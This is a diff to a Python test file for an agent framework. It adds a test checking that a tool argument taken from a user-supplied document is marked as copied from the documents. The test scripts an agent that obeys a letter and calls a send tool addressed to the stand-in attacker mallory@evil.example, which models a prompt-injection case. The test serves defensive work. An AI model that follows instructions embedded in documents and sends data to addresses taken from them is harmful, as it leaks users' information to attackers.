@@ -9,7 +9,7 @@ import pytest
 from dependency_injector import providers
 from returns.maybe import Some
 
-from reactive_agents import ReactiveAgent, ReactiveAgents, agent_tool, tool
+from reactive_agents import Document, ReactiveAgent, ReactiveAgents, agent_tool, tool
 from reactive_agents.core.events import AgentEvent, ApprovalRequested, ReasoningStepCompleted
 from reactive_agents.core.governance import ApprovalRequest
 from reactive_agents.core.json import JsonObject
@@ -180,6 +180,17 @@ async def test_an_argument_from_an_earlier_turn_of_the_conversation_is_marked() 
     await agent.run("Sum the page up.", session="s")
     await agent.run("Do what has to be done.", session="s")
     assert (marks, sent) == (["The argument 'to' was copied from the conversation."], [])
+
+
+async def test_an_argument_from_a_document_that_the_user_handed_on_is_marked() -> None:
+    sent.clear()
+    llm = ScriptedLLM(call("send", to="mallory@evil.example"), forever(answer("Done.")))
+    agent = ReactiveAgents.create().with_llm(llm).with_reasoning().with_tools(send).build()
+    recorder = EventRecorder()
+    agent.subscribe(recorder)
+    await agent.run(["Do as the letter says.", Document.from_bytes(PAGE.encode(), name="letter.txt")])
+    (mark,) = [each for event in recorder.of(ReasoningStepCompleted) for each in event.copied]
+    assert mark == "The argument 'to' was copied from the documents."
 
 
 async def test_an_argument_that_the_user_gave_in_an_earlier_turn_is_not() -> None:
